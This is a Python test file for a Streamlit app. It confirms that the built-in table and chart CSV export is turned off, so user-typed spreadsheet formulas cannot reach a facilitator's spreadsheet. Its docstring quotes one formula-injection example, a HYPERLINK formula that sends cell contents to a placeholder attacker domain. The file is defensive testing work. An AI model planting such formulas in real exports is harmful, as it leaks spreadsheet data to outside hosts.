"""No table offers Streamlit's own "Download as CSV": that file keeps a typed name such as
``=HYPERLINK("http://evil.example/?"&A2,"x")`` a live formula in the facilitator's spreadsheet. The app
turns Streamlit's data export off for every table and chart at once (``client.disableDataExport`` in
``.streamlit/config.toml``); its own Download section offers the same data with formulas neutralised."""

from __future__ import annotations

import subprocess
import sys
import tomllib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]


def test_the_project_config_turns_streamlits_data_export_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_the_server_tells_every_page_to_offer_no_table_download():
    """What a browser tab receives when its session starts, from Streamlit reading the project's config
    as the server does (run from the project folder, as scripts/run.sh and the service unit do). The flag
    is per session, so it covers every st.dataframe and st.data_editor on every page (st.table offers no
    download) and every Vega chart's table view."""
    probe = (
        "from streamlit.proto.NewSession_pb2 import Config\n"
        "from streamlit.runtime.app_session import _populate_config_msg\n"
        "m = Config(); _populate_config_msg(m); print(m.disable_data_export)"
    )
    out = subprocess.run([sys.executable, "-c", probe], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "True"
